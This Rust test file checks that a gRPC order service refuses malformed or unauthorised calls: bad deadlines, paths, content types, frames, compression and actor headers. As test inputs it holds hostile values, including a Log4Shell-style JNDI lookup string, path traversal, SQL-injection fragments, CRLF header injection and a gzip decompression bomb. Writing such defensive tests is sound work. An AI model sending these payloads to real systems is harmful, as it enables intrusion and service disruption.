//! The call around the message: deadlines, headers, paths, compression, who is calling.

use std::time::Duration;

use bytes::Bytes;
use contract::orders::v1 as ord;
use flows::world::PATIENCE;
use http::{HeaderValue, StatusCode};
use prost::Message as _;
use test_world::until;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tonic::{Code, Status};

use super::raw::{Port, call, field, frame, framed, gzip, headers, request_by_hand, send};
use super::{Census, good_order, nobody, shop};

const PLACE: &str = "/entrepot.orders.v1.OrderService/PlaceOrder";
const GET: &str = "/entrepot.orders.v1.OrderService/GetOrder";

/// A request that is answered with `NOT_FOUND`: it went all the way.
fn get_nobody() -> Bytes {
    frame(&ord::GetOrderRequest { order_id: nobody("ord_") }.encode_to_vec())
}

fn place() -> Bytes {
    frame(&good_order().encode_to_vec())
}

#[tokio::test(flavor = "multi_thread")]
async fn odd_deadlines_get_a_clear_answer() {
    let (world, _) = shop().await;
    let port = Port::of(&world);
    let not_found = (Code::NotFound, "ORDER_NOT_FOUND");
    let too_late = (Code::DeadlineExceeded, "DEADLINE_EXCEEDED");
    let malformed = (Code::InvalidArgument, "TIMEOUT_MALFORMED");
    for (timeout, wanted) in [
        ("", malformed),
        ("10S", not_found),
        ("87600H", not_found),
        ("99999999H", not_found),
        ("1n", too_late),
        ("0S", too_late),
        ("0n", too_late),
        ("999999999S", malformed),
        ("-1S", malformed),
        ("1s", malformed),
        ("1.5S", malformed),
        ("S", malformed),
        ("10", malformed),
        (" 1S", malformed),
        ("1S;DROP", malformed),
        ("NaNS", malformed),
    ] {
        let answer = call(&port, GET, headers(&[("grpc-timeout", timeout)]), get_nobody()).await;
        assert_eq!(answer.code(), (wanted.0, wanted.1.to_owned()), "{timeout:?}");
    }
    let without = call(&port, GET, headers(&[]), get_nobody()).await;
    assert_eq!(without.code(), (not_found.0, not_found.1.to_owned()));
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_whose_time_is_over_takes_effect_whole_or_not_at_all() {
    let (world, ops) = shop().await;
    let port = Port::of(&world);
    for timeout in ["1n", "100u", "500u", "1m", "2m", "4m", "8m", "16m"] {
        let order = good_order();
        let order = ord::PlaceOrderRequest { request_id: flows::world::fresh(), ..order };
        let body = frame(&order.encode_to_vec());
        let first = call(&port, PLACE, headers(&[("grpc-timeout", timeout)]), body.clone()).await;
        let code = first.code().0;
        // too near to be worth a try, it is refused unread
        let known = matches!(code, Code::Ok | Code::DeadlineExceeded | Code::ResourceExhausted);
        assert!(known, "{timeout}: {first:?}");
        let again = call(&port, PLACE, headers(&[]), body).await;
        assert_eq!(again.code().0, Code::Ok, "{timeout}: {again:?}");
    }
    world.settle().await;
    assert_eq!(Census::of(&ops).await.orders.len(), 8);
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_no_grpc_is_turned_away_before_a_handler() {
    let (world, ops) = shop().await;
    let before = Census::of(&ops).await;
    let port = Port::of(&world);
    for kind in
        ["", "text/plain", "application/json", "application/x-protobuf", "application/octet-stream", "*/*"]
    {
        let answer = call(&port, PLACE, headers(&[("content-type", kind)]), place()).await;
        assert_eq!(answer.http, Some(StatusCode::UNSUPPORTED_MEDIA_TYPE), "{kind:?}");
    }
    let mut none = headers(&[]);
    none.remove("content-type");
    assert_eq!(call(&port, PLACE, none, place()).await.http, Some(StatusCode::UNSUPPORTED_MEDIA_TYPE));
    for kind in ["application/grpc+json", "application/grpc+thrift"] {
        let answer = call(&port, PLACE, headers(&[("content-type", kind)]), frame(b"{}")).await;
        let refused = answer.http == Some(StatusCode::UNSUPPORTED_MEDIA_TYPE)
            || answer.status.is_some_and(|status| status.code() != Code::Ok);
        assert!(refused, "{kind:?}");
    }
    assert_eq!(Census::of(&ops).await, before);
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_path_that_is_not_exactly_a_method_reaches_no_handler() {
    let (world, ops) = shop().await;
    let before = Census::of(&ops).await;
    let port = Port::of(&world);
    for path in [
        "/",
        "//",
        "/entrepot.orders.v1.OrderService",
        "/entrepot.orders.v1.OrderService/",
        "//entrepot.orders.v1.OrderService/PlaceOrder",
        "/entrepot.orders.v1.OrderService//PlaceOrder",
        "/entrepot.orders.v1.OrderService/PlaceOrder/",
        "/entrepot.orders.v1.OrderService/placeOrder",
        "/entrepot.orders.v1.orderservice/PlaceOrder",
        "/ENTREPOT.ORDERS.V1.ORDERSERVICE/PLACEORDER",
        "/entrepot.orders.v1.OrderService/PlaceOrders",
        "/entrepot.orders.v2.OrderService/PlaceOrder",
        "/entrepot.orders.v1.OrderService/./PlaceOrder",
        "/x/../entrepot.orders.v1.OrderService/PlaceOrder",
        "/entrepot.orders.v1.OrderService/Place%4Frder",
        "/entrepot%2Eorders.v1.OrderService/PlaceOrder",
        "/entrepot.orders.v1.OrderService/PlaceOrder%00",
        "/entrepot.orders.v1.OrderService/PlaceOrder;x=1",
        "/OrderService/PlaceOrder",
        "/grpc.health.v1.Health/PlaceOrder",
        "/entrepot.orders.v1.OrderEventsService/PlaceOrder",
    ] {
        let answer = call(&port, path, headers(&[]), place()).await;
        assert_eq!(answer.code(), (Code::Unimplemented, "METHOD_NOT_SERVED".to_owned()), "{path}");
    }
    assert_eq!(Census::of(&ops).await, before);
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn requests_that_no_library_would_send_reach_no_handler() {
    let (world, ops) = shop().await;
    let before = Census::of(&ops).await;
    let port = Port::of(&world);
    let good = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", PLACE),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("x-entrepot-actor", "ops/test"),
    ];
    let with = |name: &str, value: &'static str| {
        good.map(|(known, old)| if known == name { (known, value) } else { (known, old) }).to_vec()
    };
    let mut twice = good.to_vec();
    twice.insert(3, (":path", "/grpc.health.v1.Health/Check"));
    let mut shouting = good.to_vec();
    shouting.push(("X-Entrepot-Actor", "ops/test"));
    let mut late = good.to_vec();
    late.push((":path", PLACE));
    let mut connection = good.to_vec();
    connection.push(("connection", "keep-alive"));
    for (what, headers) in [
        ("a path without its slash", with(":path", "entrepot.orders.v1.OrderService/PlaceOrder")),
        ("no path", with(":path", "")),
        (
            "a path of an address",
            with(":path", "http://localhost/entrepot.orders.v1.OrderService/PlaceOrder"),
        ),
        ("a path with a space", with(":path", "/entrepot.orders.v1.OrderService/PlaceOrder ")),
        ("another method", with(":method", "GET")),
        ("a method with a newline", with(":method", "POST\r\n")),
        ("two paths", twice),
        ("a path after the headers", late),
        ("a header in capitals", shouting),
        ("a header of another protocol", connection),
    ] {
        by_hand(&port, &request_by_hand(&headers, &place())).await;
        world.settle().await;
        assert_eq!(Census::of(&ops).await, before, "{what}");
    }
    let plain = by_hand(&port, b"GET / HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n").await;
    assert!(plain.starts_with(b"HTTP/1.1 4"), "{:?}", String::from_utf8_lossy(&plain));
    // The same without a fault is an order: the ones above were refused for their faults.
    by_hand(&port, &request_by_hand(&good, &place())).await;
    until("there is an order by hand", async || !Census::of(&ops).await.orders.is_empty()).await;
    world.stop().await;
}

/// Sends bytes and reads until the other side has answered and is quiet, or hung up.
async fn by_hand(port: &Port, request: &[u8]) -> Vec<u8> {
    let mut stream = port.connect().await;
    stream.write_all(request).await.expect("sent");
    let mut answer = Vec::new();
    loop {
        let mut bytes = [0; 4_096];
        // It has its time for the first word; what belongs to that comes soon after.
        let patience = if answer.is_empty() { PATIENCE } else { Duration::from_millis(200) };
        match tokio::time::timeout(patience, stream.read(&mut bytes)).await {
            Ok(Ok(read)) if read > 0 => answer.extend_from_slice(&bytes[..read]),
            _ => break answer,
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_packed_may_not_be_larger_than_what_is_plain() {
    let (world, ops) = shop().await;
    let before = Census::of(&ops).await;
    let port = Port::of(&world);
    let packed = headers(&[("grpc-encoding", "gzip")]);
    let good = gzip(&ord::GetOrderRequest { order_id: nobody("ord_") }.encode_to_vec());
    let too_large = (Code::ResourceExhausted, "MESSAGE_TOO_LARGE");
    let unreadable = (Code::InvalidArgument, "REQUEST_UNREADABLE");
    let zeros = gzip(&vec![0; 16 << 20]);
    assert!(zeros.len() < 64 * 1024);
    let bomb = field(1_000, &vec![0; server::MESSAGE_LIMIT]);
    for (what, body, wanted) in [
        ("a packed request", framed(1, &good), (Code::NotFound, "ORDER_NOT_FOUND")),
        ("16 MiB of zeros", framed(1, &zeros), too_large),
        ("a message just over the limit", framed(1, &gzip(&bomb)), too_large),
        ("a pack in a pack", framed(1, &gzip(&zeros)), unreadable),
        ("what was never packed", framed(1, b"plain"), unreadable),
        ("a cut pack", framed(1, &good[..good.len() - 9]), unreadable),
        ("a pack with a wrong sum", framed(1, &[&good[..good.len() - 8], &[0; 8]].concat()), unreadable),
        ("a flag that is none", framed(7, &good), unreadable),
    ] {
        let answer = call(&port, GET, packed.clone(), body).await;
        assert_eq!(answer.code(), (wanted.0, wanted.1.to_owned()), "{what}: {answer:?}");
    }
    for unknown in ["zstd", "deflate", "br", "x", ""] {
        let headers = headers(&[("grpc-encoding", unknown)]);
        let answer = call(&port, GET, headers, framed(1, &good)).await;
        assert_ne!(answer.code().0, Code::Ok, "{unknown:?}");
        assert!(!answer.code().1.is_empty(), "{unknown:?}: {answer:?}");
    }
    assert_eq!(Census::of(&ops).await, before);
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_browser_that_sends_nonsense_hurts_nobody() {
    let (world, ops) = shop().await;
    let before = Census::of(&ops).await;
    let port = Port::of(&world);
    let good = place();
    for kind in ["application/grpc-web", "application/grpc-web+proto", "application/grpc-web-text"] {
        for (what, body) in [
            ("nothing", Bytes::new()),
            ("half of a head", good.slice(..3)),
            ("half of a message", good.slice(..good.len() / 2)),
            ("no base64", Bytes::from_static(b"!!!!====")),
            ("base64 that ends early", Bytes::from_static(b"AAAAAA")),
            ("4 GiB", Bytes::from_static(&[0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3])),
            ("trailers for a message", framed(0x80, b"grpc-status:0\r\n")),
            ("bytes of no meaning", Bytes::from_static(&[0xff; 64])),
        ] {
            let answer = call(&port, PLACE, headers(&[("content-type", kind)]), body).await;
            assert!(answer.http.is_some(), "{kind} {what}");
            let code = answer.status.as_ref().map(Status::code);
            assert_ne!(code, Some(Code::Ok), "{kind} {what}");
        }
    }
    assert_eq!(Census::of(&ops).await, before);
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_frame_that_lies_about_its_length_is_refused() {
    let (world, ops) = shop().await;
    let before = Census::of(&ops).await;
    let port = Port::of(&world);
    let good = place();
    for (what, body) in [
        ("no frame", Bytes::new()),
        ("half of a head", good.slice(..3)),
        ("a head alone", good.slice(..5)),
        ("half of a message", good.slice(..good.len() / 2)),
        ("4 GiB", Bytes::from_static(&[0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3])),
        ("two messages", [good.clone(), good.clone()].concat().into()),
    ] {
        let answer = call(&port, PLACE, headers(&[]), body).await;
        let (code, reason) = answer.code();
        if what == "two messages" {
            // The second one is never read.
            assert_eq!(code, Code::Ok, "{answer:?}");
            continue;
        }
        assert!(matches!(code, Code::InvalidArgument | Code::ResourceExhausted), "{what}: {answer:?}");
        assert!(!reason.is_empty(), "{what}: {answer:?}");
        assert_eq!(Census::of(&ops).await.orders, before.orders, "{what}");
    }
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_caller_that_does_not_say_clearly_who_it_is_is_refused() {
    let (world, ops) = shop().await;
    let before = Census::of(&ops).await;
    let port = Port::of(&world);
    let long = format!("ops/{}", "x".repeat(129));
    for actor in [
        "",
        "ops",
        "ops/",
        "/test",
        "king/test",
        "Ops/test",
        "ops /test",
        "ops/a b",
        "ops/a/b",
        "ops/a,ops/b",
        "ops/é",
        "ops/../service/orders",
        "ops/'--",
        &long,
    ] {
        let answer = call(&port, PLACE, headers(&[("x-entrepot-actor", actor)]), place()).await;
        assert_eq!(answer.code(), (Code::Unauthenticated, "ACTOR_MALFORMED".to_owned()), "{actor:?}");
    }
    let mut twice = headers(&[]);
    twice.append("x-entrepot-actor", HeaderValue::from_static("ops/test"));
    let answer = call(&port, PLACE, twice, place()).await;
    assert_eq!(answer.code(), (Code::Unauthenticated, "ACTOR_MALFORMED".to_owned()), "named twice");
    for (padding, wanted) in
        [(20 * 1024, Some(StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE)), (64 * 1024, None)]
    {
        let swollen = headers(&[("x-padding", &"p".repeat(padding))]);
        let answer = call(&port, PLACE, swollen, place()).await;
        assert_eq!(answer.http, wanted, "headers of {padding} bytes");
    }
    assert_eq!(Census::of(&ops).await, before);
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn metadata_that_nobody_reads_does_not_hurt() {
    let (world, _) = shop().await;
    let port = Port::of(&world);
    for (name, value) in [
        ("x-odd-bin", "!not base64!"),
        ("grpc-accept-encoding", "nothing,,;q=x"),
        ("grpc-tags-bin", "AAAA="),
        ("traceparent", "00-zz-zz-zz"),
        ("user-agent", "${jndi:ldap://example.org/a}"),
    ] {
        let answer = call(&port, GET, headers(&[(name, value)]), get_nobody()).await;
        assert_eq!(answer.code().0, Code::NotFound, "{name}: {answer:?}");
    }
    let lie = call(&port, GET, headers(&[("content-length", "1")]), get_nobody()).await;
    assert!(lie.http.is_none(), "a length that is a lie: {lie:?}");
    world.stop().await;
}

/// Methods and who may not call them, whatever they send.
const NOT_FOR: &[(&str, &[&str])] = &[
    ("orders.v1.OrderService/ListOrders", &["customer"]),
    ("orders.v1.OrderEventsService/ReplayEvents", &["customer", "channel", "store"]),
    ("orders.v1.OrderEventsService/ListHeads", &["customer", "channel", "store"]),
    ("inventory.v1.InventoryService/PutSkus", &["customer", "channel", "store"]),
    ("inventory.v1.InventoryService/ApplyDeltas", &["customer"]),
    ("inventory.v1.InventoryService/ImportStock", &["customer"]),
    ("inventory.v1.InventoryService/AdjustStock", &["customer", "channel"]),
    ("inventory.v1.InventoryService/SetSafetyStock", &["customer", "channel"]),
    ("inventory.v1.InventoryService/Reserve", &["customer", "channel", "store"]),
    ("inventory.v1.InventoryService/ReleaseReservation", &["customer", "channel", "store"]),
    ("inventory.v1.InventoryService/ExtendReservation", &["customer", "channel", "store"]),
    ("inventory.v1.InventoryService/Audit", &["customer", "channel", "store"]),
    ("fulfillment.v1.NetworkService/PutNodes", &["customer", "channel", "store"]),
    ("fulfillment.v1.NetworkService/CloseNode", &["customer", "channel"]),
    ("fulfillment.v1.PromiseService/ConfirmPromise", &["customer", "channel", "store"]),
    ("fulfillment.v1.PromiseService/GetSourcingDecision", &["customer"]),
    ("fulfillment.v1.PromiseService/ListSourcingDecisions", &["customer"]),
    ("fulfillment.v1.WorkService/ListFulfillmentOrders", &["customer"]),
    ("fulfillment.v1.WorkService/WatchWork", &["customer", "channel", "service"]),
    ("fulfillment.v1.WorkService/AcceptWork", &["customer", "channel", "service"]),
    ("fulfillment.v1.WorkService/PickLines", &["customer", "channel", "service"]),
    ("fulfillment.v1.WorkService/HandOver", &["customer", "channel", "service"]),
    ("fulfillment.v1.WorkService/ConfirmPutBack", &["customer", "channel", "service"]),
    ("fulfillment.v1.WorkService/IssuePickupCode", &["customer", "store", "service"]),
    ("fulfillment.v1.WorkService/FindByPickupCode", &["customer", "channel", "service"]),
];

#[tokio::test(flavor = "multi_thread")]
async fn a_caller_without_the_role_is_refused_before_its_message_is_read() {
    let (world, ops) = shop().await;
    let before = Census::of(&ops).await;
    let port = Port::of(&world);
    for (method, kinds) in NOT_FOR {
        for kind in *kinds {
            let path = format!("/entrepot.{method}");
            let actor = format!("{kind}/sha-01");
            let headers = headers(&[("x-entrepot-actor", &actor)]);
            let answer = call(&port, &path, headers, frame(&[0xff])).await;
            let wanted = (Code::PermissionDenied, "CALLER_NOT_ALLOWED".to_owned());
            assert_eq!(answer.code(), wanted, "{kind} at {method}");
        }
        let (code, _) = send(&port, &format!("/entrepot.{method}"), &[0xff]).await.code();
        assert_eq!(code, Code::InvalidArgument, "ops at {method}");
    }
    assert_eq!(Census::of(&ops).await, before);
    world.stop().await;
}
